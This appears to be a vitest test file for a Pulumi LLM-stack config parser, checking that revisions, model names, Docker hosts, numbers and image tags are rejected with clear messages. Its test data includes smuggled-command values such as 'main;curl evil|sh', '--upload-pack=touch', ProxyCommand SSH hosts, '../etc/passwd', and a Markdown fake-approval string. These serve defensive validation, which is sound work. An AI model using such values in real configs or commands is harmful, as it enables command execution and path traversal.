/**
 * Values a stack-file editor could use to reach a shell, an argv, a config file or the public PR comment:
 * each is refused with one line naming the key, what is allowed, and the value.
 */
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { StackConfigError } from "../../src/config/errors";
import { parseStackConfig } from "../../src/config/parse";
import { readStack } from "../../src/config/stackFile";
import { ROOT } from "../helpers/root";
import { rawValues } from "../helpers/stacks";

/** The issue lines of the one StackConfigError an edit of a stack gets. */
function issues(stack: string, edit: (v: Record<string, any>) => void): string[] {
  const values = rawValues(stack) as Record<string, any>;
  edit(values);
  try {
    parseStackConfig(values, `Pulumi.${stack}.yaml`);
  } catch (err) {
    expect(err).toBeInstanceOf(StackConfigError);
    return (err as Error).message.split("\n").slice(1, -1);
  }
  throw new Error("expected the config to be rejected");
}

const REVISION =
  'must be a git branch, tag or commit of the model repository such as "main", "v1.0" or a 40-digit commit hash; it ';

describe("model.revision is a git ref or commit", () => {
  it.each([
    ["main\n```\n**No changes.** Approved", 'may use only letters, digits, ".", "_", "-", "/" and "+"'],
    ["main;curl evil|sh", 'may use only letters, digits, ".", "_", "-", "/" and "+"'],
    ["--upload-pack=touch", 'may not start with "-" (it would read as an option)'],
    ["refs/heads/../x", 'may not contain ".."'],
    ["/main", 'may not start or end with "/" or contain "//"'],
    ["v1.", 'may not end with "."'],
    ["feature/.hidden", 'may not have a part that starts with "." or ends with ".lock"'],
    ["main.lock", 'may not have a part that starts with "." or ends with ".lock"'],
    ["@", 'may use only letters, digits, ".", "_", "-", "/" and "+"'],
    ["main@{1}", 'may use only letters, digits, ".", "_", "-", "/" and "+"'],
    ["", "must be 1 to 255 characters"],
  ])("refuses %j", (revision, problem) => {
    expect(issues("production", (v) => (v.model.revision = revision))).toEqual([
      `  - llmstack:model.revision: ${REVISION}${problem} (got ${JSON.stringify(revision)})`,
    ]);
  });

  it.each(["main", "v2.1.0", "refs/pr/12", "release/2024-06", "a1b2c3d", "0123456789abcdef0123456789abcdef01234567"])(
    "accepts %s",
    (revision) => {
      const values = rawValues("production") as Record<string, any>;
      values.model.revision = revision;
      expect(parseStackConfig(values, "Pulumi.production.yaml").model.revision).toBe(revision);
    },
  );
});

describe("model names that would read as an option or a path step", () => {
  const HF =
    'must be a Hugging Face repository ID such as "Qwen/Qwen2.5-7B-Instruct": letters, digits, "-", "_" and "." ' +
    'in two parts that start and end with a letter or digit, without "--" or ".."';
  it.each(["-rf/model", "Qwen/-x", "Qwen/..", "Qwen/a..b", "Qwen/a--b", "../etc/passwd", "Qwen/model.git"])("refuses model.name %j", (name) => {
    expect(issues("production", (v) => (v.model.name = name))).toEqual([`  - llmstack:model.name: ${HF} (got ${JSON.stringify(name)})`]);
  });

  const SERVED =
    'may use letters, digits, ".", "_", ":" and "-", starting with a letter or digit, at most 128 characters, without "..", ' +
    'e.g. "qwen2.5-7b-instruct"';
  it.each(["--help", "-x", "a..b", "..", "x".repeat(129)])("refuses servedModelName %j", (name) => {
    expect(issues("production", (v) => (v.model.servedModelName = name))).toEqual([
      `  - llmstack:model.servedModelName: ${SERVED} (got ${JSON.stringify(name)})`,
    ]);
  });

  it("keeps the names real models use", () => {
    const values = rawValues("production") as Record<string, any>;
    values.model.name = "meta-llama/Llama-3.1-8B-Instruct";
    values.model.servedModelName = "llama3.1:8b_instruct";
    const config = parseStackConfig(values, "Pulumi.production.yaml");
    expect([config.model.name, config.model.servedModelName]).toEqual(["meta-llama/Llama-3.1-8B-Instruct", "llama3.1:8b_instruct"]);
  });
});

describe("dockerHost", () => {
  const DOCKER =
    'must be "unix:///var/run/docker.sock", "ssh://user@host" or "tcp://host:port" ' +
    '(user and host may not start with "-"; no control characters)';
  it.each(["ssh://-F@evil", "ssh://-oProxyCommand=x@gpu-box", "ssh://deploy@-oProxyCommand=x", "tcp://-x:2375", "unix:///run/docker.sock\n"])(
    "refuses %j",
    (host) => {
      expect(issues("production", (v) => (v.dockerHost = host))).toEqual([`  - llmstack:dockerHost: ${DOCKER} (got ${JSON.stringify(host)})`]);
    },
  );

  it.each(["ssh://deploy@gpu-box", "ssh://deploy@gpu-box.lan:2222", "tcp://10.0.0.5:2376", "unix:///run/user/1000/docker.sock"])(
    "accepts %s",
    (host) => {
      const values = rawValues("production") as Record<string, any>;
      values.dockerHost = host;
      expect(parseStackConfig(values, "Pulumi.production.yaml").dockerHost).toBe(host);
    },
  );
});

describe("numbers", () => {
  it("YAML's .inf, -.inf and .nan are refused as not finite, not as 'expected number, received number'", () => {
    const dir = mkdtempSync(join(tmpdir(), "llmstack-inf-"));
    writeFileSync(join(dir, "Pulumi.yaml"), readFileSync(join(ROOT, "Pulumi.yaml")));
    const text = readFileSync(join(ROOT, "Pulumi.production.yaml"), "utf8")
      .replace("memoryUtilization: 0.9", "memoryUtilization: .nan")
      .replace("maxModelLen: 8192", "maxModelLen: -.inf")
      .replace("port: 443", "port: .inf");
    writeFileSync(join(dir, "Pulumi.production.yaml"), text);
    const raw = readStack(dir, "production");
    expect(() => parseStackConfig(raw.values, raw.stackFile)).toThrow(
      "Pulumi.production.yaml: invalid stack config:\n" +
        "  - llmstack:gpu.memoryUtilization: must be a finite number (got .nan)\n" +
        "  - llmstack:model.maxModelLen: must be a finite number (got -.inf)\n" +
        "  - llmstack:gateway.port: must be a finite number (got .inf)\n",
    );
  });

  it("refuses a GPU memory size no card has, so the capacity check cannot print Infinity", () => {
    expect(issues("production", (v) => (v.gpu.memoryMiB = 2_000_000))).toEqual([
      "  - llmstack:gpu.memoryMiB: Too big: expected number to be <=1048576 (got 2000000)",
    ]);
  });
});

describe("host ports", () => {
  it("refuses gateway port 80 with acme, whose HTTP-01 challenge takes host port 80 too", () => {
    const acme = { mode: "acme", domain: "llm.example.org", email: "ops@example.org" };
    expect(issues("production", (v) => (v.gateway = { bindAddress: "0.0.0.0", port: 80, tls: acme }))).toEqual([
      "  - llmstack:gateway.port: host port 80 on 0.0.0.0 would be published twice: by gateway.port and by gateway.tls " +
        "mode acme, whose HTTP-01 challenge arrives on port 80; set gateway.port to 443 (or another free port) (got 80)",
    ]);
  });
});

describe("image references", () => {
  const PINNED = (env: string, ref: string, repo: string) =>
    `${env} needs a pinned image version; "${ref}" floats: use a version tag such as ${repo}:1.2.3 (optionally with @sha256:<digest>)`;
  it.each([
    ["redis", "redis:latest-gpu", "redis"],
    ["tlsProxy", "caddy:stable-alpine", "caddy"],
    ["postgres", "postgres:alpine", "postgres"],
    ["qdrant", "qdrant/qdrant:nightly-2024-06-01", "qdrant/qdrant"],
  ])("refuses the floating tag of images.%s = %s outside development", (key, ref, repo) => {
    for (const stack of ["staging", "production"]) {
      expect(issues(stack, (v) => (v.images = { ...v.images, [key]: ref }))).toEqual([
        `  - llmstack:images.${key}: ${PINNED(stack, ref, repo)} (got "${ref}")`,
      ]);
    }
  });

  it.each(["x:latest:1.0", "Redis:7", "redis:-1", "redis:7 ", "redis@sha256:abc", "redis:7\n"])("refuses the malformed %j everywhere", (ref) => {
    for (const stack of ["development", "production"]) {
      expect(issues(stack, (v) => (v.images = { ...v.images, redis: ref }))).toEqual([
        "  - llmstack:images.redis: must be an image reference such as postgres:16.4 or " +
          'registry.example.org/team/name:1.2.3@sha256:<64 hex>: a lowercase repository, then one ":tag" and ' +
          `optionally "@sha256:<digest>" (got ${JSON.stringify(ref)})`,
      ]);
    }
  });
});
